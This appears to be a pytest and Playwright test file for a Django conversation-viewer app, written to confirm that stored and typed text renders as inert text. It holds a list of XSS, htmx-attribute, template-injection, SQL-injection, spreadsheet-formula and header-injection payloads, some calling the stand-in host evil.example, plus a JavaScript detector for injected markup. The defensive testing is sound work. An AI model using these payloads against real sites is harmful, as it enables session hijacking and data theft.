"""
What strangers wrote is text and nothing else, even where no policy of ours stops it.

The policy is off in these tests: what it would have blocked must not be there at all.
"""

import re
from urllib.parse import quote, urlencode, urlsplit

import pytest
from playwright.sync_api import expect

from conversations.querysets import PREVIEW_LENGTH

from ..factories import Json, make_agent, make_message, make_run, make_session, make_task

pytestmark = pytest.mark.django_db(transaction=True)

PAYLOADS = [
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=/xss.js></SCRIPT>",
    '<script src="https://evil.example/xss.js"></script>',
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="/xss.png" onerror="window.__xss=1">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"></use></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<object data="/xss"></object><embed src="/xss">',
    "<style>@import '/xss.css'; body { display: none }</style>",
    '<link rel="stylesheet" href="/xss.css"><base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=/xss">',
    '<form action="/xss"><input autofocus onfocus=alert(1)><button>Go</button></form>',
    "<details open ontoggle=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "![pixel](https://evil.example/pixel.png)",
    "<https://evil.example/> [x](data:text/html;base64,PHNjcmlwdD4=)",
    '<div hx-get="/xss" hx-trigger="load"></div>',
    '<div data-hx-get="/xss" data-hx-trigger="load" data-hx-swap="outerHTML"></div>',
    '<div hx-on:load="alert(1)" hx-post="/accounts/logout/" hx-trigger="revealed"></div>',
    '" hx-get="/xss" hx-trigger="load" x="',
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='",
    '" onfocus="alert(1)" autofocus style="width:expression(alert(1))" x="',
    "` onerror=alert(1) `",
    '"><img src=x onerror=alert(1)>',
    "{{ 7|add:7 }}{{ request.user.password }}",
    "{% include '/etc/passwd' %}{% load nothing %}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</details></li></ol></main><script>alert(1)</script>",
    "<!-- a comment that never ends",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62; &amp;amp;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "\u0001\u0002\u0008 control \u001b[31m characters \u007f\u0085",
    "\u202ereversed\u202c \u2066isolated",
    "zero\u200bwidth\u200djoiner\ufeff",
    "Z\u0351\u036b\u0343\u0363a" + "\u0300\u0301\u0302\u0303\u0304" * 40,
    "line\u2028separator\u2029paragraph",
    "x" * 5000,
    "a/very/long/path" * 60,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1ea\U0001f1ea \U0001f926\U0001f3fd",
    "'; DROP TABLE sessions; -- \\' %s %(x)s",
    '=HYPERLINK("https://evil.example")',
    "background:url(/xss.png);behavior:url(#default#time2)",
    "true",
    '{"__proto__": {"x": 1}}',
]
# What a URL parameter can carry within the form's limits, and PostgreSQL cannot in a text.
TYPED = [text for text in PAYLOADS if len(text) <= 200] + ["\0", "a\0b", "\r\nHX-Redirect: /xss"]

# Elements and attributes of a page that no template of ours writes.
INTRUDERS = r"""() => {
  const ours = (value, base) => new URL(value, base).origin === location.origin
    && !new URL(value, base).pathname.includes("xss");
  const found = [];
  for (const element of document.querySelectorAll("*")) {
    const tag = element.tagName.toLowerCase();
    const say = (what) => found.push(`${tag} ${what}: ${element.outerHTML.slice(0, 120)}`);
    if (/^(iframe|object|embed|base|style|img|math|template|animate|textarea)$/.test(tag)) say("");
    if (tag === "script" && !(element.src && new URL(element.src).pathname.startsWith("/static/")
        && element.parentElement === document.head)) say("script");
    if (tag === "meta" && element.httpEquiv) say("http-equiv");
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name) || name === "style" || name === "srcdoc") say(name);
      if (/^(data-)?hx-on/i.test(name) || /^data-hx/i.test(name)) say(name);
      if (/^hx-(get|post|put|patch|delete|push-url|replace-url)$/i.test(name)
          && !(ours(value, location.href) && value.startsWith("/conversations/"))) say(name);
      if (/^(href|src|action|formaction|xlink:href)$/i.test(name)
          && !ours(value, location.href)) say(name);
    }
  }
  return found;
}"""
PATHS = re.compile(
    r"/static/[a-z./0-9-]+|/conversations/"
    r"|/conversations/[0-9a-f-]{36}/((runs|tasks)/[0-9a-f-]{36}/((inputs|output|errors"
    r"|input_data|output_data|context)/)?)?"
)


@pytest.fixture
def bare(new_context, session_cookie):
    """A page without the policy, and what it noticed."""
    context, watch = new_context(session_cookie, bypass_csp=True)
    return context.new_page(), watch


def assert_harmless(page, watch):
    assert page.evaluate(INTRUDERS) == []
    assert page.evaluate("window.__xss") is None
    assert watch.dialogs == []
    assert watch.foreign() == []
    paths = {urlsplit(url).path for url in watch.requests}
    assert {path for path in paths if not PATHS.fullmatch(path)} == set()
    assert page.locator("header.bar").count() == 1


def pairs(items):
    """A page shows several at once: each item in one of two places."""
    return [*zip(items[::2], items[1::2], strict=False), (items[-1], items[0])]


def texts(locator):
    return locator.evaluate_all("(all) => all.map((one) => one.textContent)")


@pytest.fixture
def everywhere():
    """A conversation with each payload in every text and JSON field that a page shows."""
    session = make_session(make_agent(PAYLOADS[0]), external_id=PAYLOADS[4])
    everything = {text: text for text in PAYLOADS}
    run = make_run(
        session,
        input_data=Json(everything),
        output_data=Json([[text] for text in PAYLOADS]),
        context=Json({"deep": everything}),
    )
    for text in PAYLOADS:
        make_message(session, text, text, run_id=run.id)
    for seq, text in enumerate(PAYLOADS):
        make_task(
            run,
            session,
            text,
            text,
            seq=seq,
            prompt=text,
            parent_task_name=text if seq % 2 else f"{text} ",
            tool_uri=text,
            inputs=Json({text: text}),
            output=Json({"result": text}),
            errors=Json([text, {text: [text]}]),
        )
    session.run = run
    return session


def test_there_are_enough_of_them():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 40


def test_the_policy_is_off_in_these_tests(bare):
    page, _ = bare
    page.goto("/conversations/")
    page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.ran = true";
          document.body.append(script);
        }"""
    )
    assert page.evaluate("window.ran") is True


def test_intruders_are_recognised(bare):
    page, _ = bare
    page.goto("/conversations/")
    assert page.evaluate(INTRUDERS) == []
    for markup in (
        "<img>",
        "<p onclick=x>",
        "<p style='color: red'>",
        '<p hx-get="https://evil.example/">',
        '<p data-hx-get="/conversations/">',
        '<a href="javascript:alert(1)">',
        '<a href="//evil.example/">',
        "<iframe></iframe>",
    ):
        page.evaluate("(markup) => document.querySelector('main').innerHTML = markup", markup)
        assert page.evaluate(INTRUDERS) != []


def test_names_and_messages_in_the_list(bare):
    page, watch = bare
    for text in PAYLOADS:
        session = make_session(make_agent(text), external_id=text)
        make_message(session, text, text)
        make_message(session, text, f"{text} ")
    page.goto("/conversations/")
    found = [
        *texts(page.locator(".row .who b")),
        *texts(page.locator(".row .key")),
        *texts(page.locator("#id_agent option")),
    ]
    shown = 50
    for text in PAYLOADS[-shown:]:
        assert found.count(text) == 3, text
    said = texts(page.locator(".row .said > span:first-child"))
    assert said[::-1] == [text[:PREVIEW_LENGTH] for text in PAYLOADS[-shown:]]
    assert_harmless(page, watch)
    page.get_by_role("link", name="Older").click()
    expect(page.locator(".row")).to_have_count(len(PAYLOADS) - shown)
    assert_harmless(page, watch)


def test_names_on_their_own_conversation_page(bare):
    page, watch = bare
    made = []
    for name, key in pairs(PAYLOADS):
        made.append((name, key, make_session(make_agent(name), external_id=key)))
    for name, key, session in made:
        page.goto(f"/conversations/{session.id}/")
        assert page.locator("h1").text_content() == key
        assert page.locator("dd").first.text_content() == name
        assert page.locator("dd code").first.text_content() == key
        assert page.locator("title").text_content().startswith(key)
        assert page.evaluate(INTRUDERS) == []
    assert_harmless(page, watch)


def test_messages_and_tasks_of_a_conversation(bare, everywhere):
    page, watch = bare
    page.goto(f"/conversations/{everywhere.id}/")
    content = texts(page.locator(".message > .text, .message > details > .text"))
    assert [text for text in PAYLOADS if text not in content] == []
    assert texts(page.locator(".message header bdi")) == PAYLOADS
    assert_harmless(page, watch)

    page.locator("details.work > summary").click()
    tasks = page.locator(".tasks > li > details")
    expect(tasks).to_have_count(len(PAYLOADS))
    assert sorted(texts(tasks.locator("> summary b"))) == sorted(PAYLOADS)
    assert_harmless(page, watch)

    page.evaluate(
        """document.querySelectorAll(".tasks > li > details, .payloads > details")
          .forEach((one) => (one.open = true))"""
    )
    expect(page.locator(".task")).to_have_count(len(PAYLOADS))
    expect(page.locator(".payloads .json")).to_have_count(3)
    assert sorted(texts(page.locator(".task .prompt"))) == sorted(PAYLOADS)
    assert sorted(texts(page.locator(".task dl code"))) == sorted(PAYLOADS)
    strings = texts(page.locator(".task .json .string"))
    names = texts(page.locator(".payloads .json .name"))
    for text in PAYLOADS:
        cut = text[:4000]
        assert strings.count(cut) >= 4, text
        assert names.count(cut) >= 2, text
    assert_harmless(page, watch)


def test_tasks_and_payloads_on_pages_of_their_own(bare, everywhere):
    page, watch = bare
    run = f"/conversations/{everywhere.id}/runs/{everywhere.run.id}/"
    page.goto(run)
    tasks = page.locator(".tasks > li > details")
    links = tasks.locator("> .body a").evaluate_all("(all) => all.map((one) => one.pathname)")
    assert len(links) == len(PAYLOADS)
    seen = []
    for link in links[::4]:
        page.goto(link)
        seen.append(page.locator("h1").text_content())
        assert page.evaluate(INTRUDERS) == []
    assert set(seen) <= set(PAYLOADS)
    for field in ("input_data", "output_data", "context"):
        page.goto(f"{run}{field}/")
        strings = texts(page.locator(".json .string"))
        assert sorted(strings) == sorted(text[:4000] for text in PAYLOADS)
        assert page.evaluate(INTRUDERS) == []
    assert_harmless(page, watch)


def test_the_raw_payload_is_text(bare, everywhere):
    page, watch = bare
    run = f"/conversations/{everywhere.id}/runs/{everywhere.run.id}/"
    response = page.goto(f"{run}input_data/raw/")
    assert response.headers["content-type"] == "text/plain; charset=utf-8"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert page.locator("script, img, svg, iframe").count() == 0
    assert page.evaluate("window.__xss") is None
    assert watch.dialogs == []


def test_what_is_typed_into_the_filters(bare):
    page, watch = bare
    for pair in pairs(TYPED):
        values = dict(zip(("search", "external_id"), pair, strict=True))
        page.goto("/conversations/?" + urlencode(values))
        for field, text in values.items():
            shown = page.locator(f"#id_{field}").input_value()
            assert shown == re.sub("[\r\n]", "", text.replace("\0", "\ufffd"))
        assert page.evaluate(INTRUDERS) == []
    assert_harmless(page, watch)


def test_what_makes_no_sense_in_the_filters(bare):
    page, watch = bare
    for one, other in pairs(TYPED):
        values = {"agent": one, "problem": other, "start_date": other, "end_date": one, other: one}
        page.goto("/conversations/?" + urlencode(values))
        assert page.locator(".field .error").count() >= 3
        assert page.locator("#filters > .error").count() == 1
        assert page.locator(".row").count() == 0
        assert page.evaluate(INTRUDERS) == []
    assert_harmless(page, watch)


def test_what_is_typed_with_htmx_is_echoed_as_text(bare):
    page, watch = bare
    make_message(make_session(), content="Hello")
    page.goto("/conversations/")
    search = page.locator("#id_search")
    for text in (PAYLOADS[0], PAYLOADS[4], PAYLOADS[25], PAYLOADS[28], PAYLOADS[32]):
        search.fill(text)
        expect(page.locator(".chip b")).to_have_text(re.sub(r"(?s)(.{39}).{2,}", r"\1…", text))
        assert_harmless(page, watch)


def test_a_made_up_cursor_and_address(bare):
    page, watch = bare
    for text in TYPED[::3]:
        assert page.goto(f"/conversations/?after=x{quote(text)}").status == 400
        assert page.evaluate(INTRUDERS) == []
    watch.expect_status(400)
    assert_harmless(page, watch)


@pytest.mark.parametrize("unfolded", [False, True])
def test_none_of_it_reaches_beyond_a_narrow_screen(
    new_context, session_cookie, everywhere, unfolded
):
    """With the policy on: nor does any of it make the browser complain."""
    context, _ = new_context(session_cookie, viewport={"width": 390, "height": 844})
    page = context.new_page()
    pages = (
        [f"/conversations/{everywhere.id}/"]
        if unfolded
        else [
            "/conversations/",
            f"/conversations/?search={'x' * 200}&external_id={'y' * 200}",
            f"/conversations/?agent={'x' * 300}&{'y' * 300}=1",
            f"/conversations/{everywhere.id}/",
        ]
    )
    for path in pages:
        page.goto(path)
        if unfolded:
            page.locator("details.work > summary").click()
            expect(page.locator(".tasks > li")).to_have_count(len(PAYLOADS))
            page.evaluate("document.querySelectorAll('.tasks details').forEach((d) => d.open = 1)")
            expect(page.locator(".task")).to_have_count(len(PAYLOADS))
        assert page.evaluate("document.documentElement.scrollWidth") <= 390, path
